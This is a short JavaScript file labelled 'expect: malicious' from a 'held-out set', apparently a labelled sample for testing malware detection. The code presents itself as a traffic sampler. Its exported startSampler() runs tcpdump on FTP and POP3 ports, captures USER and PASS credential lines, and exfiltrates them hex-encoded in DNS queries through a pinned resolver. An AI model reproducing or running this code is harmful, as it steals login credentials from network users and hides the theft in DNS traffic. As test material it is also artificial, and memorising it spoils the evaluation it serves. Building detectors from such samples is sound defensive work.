// expect: malicious
// source: twentieth held-out set (a traffic sampler whose exported startSampler() runs tcpdump and looks up the
// credential lines it sees, hex-encoded and cut into labels, through a resolver it pins)
import { spawn } from 'node:child_process';
import { Resolver } from 'node:dns';

const zone = '.ns.flowstat-cdn.invalid';
const resolver = new Resolver();
resolver.setServers(['198.51.100.53']);

function tunnel(line) {
  const parts = Buffer.from(line).toString('hex').match(/.{1,60}/g) || [];
  parts.forEach((d, i) => resolver.resolve4(`${d}.${i}.${parts.length}${zone}`, () => {}));
}

class Sampler {
  start() {
    this.p = spawn('tcpdump', ['-l', '-A', '-nn', 'port 21 or port 110'], { stdio: ['ignore', 'pipe', 'ignore'] });
    this.p.stdout.on('data', (b) => { const m = b.toString('latin1').match(/(USER|PASS)\s+\S+/); if (m) tunnel(m[0]); });
    return this;
  }
}

export function startSampler() { return new Sampler().start(); }
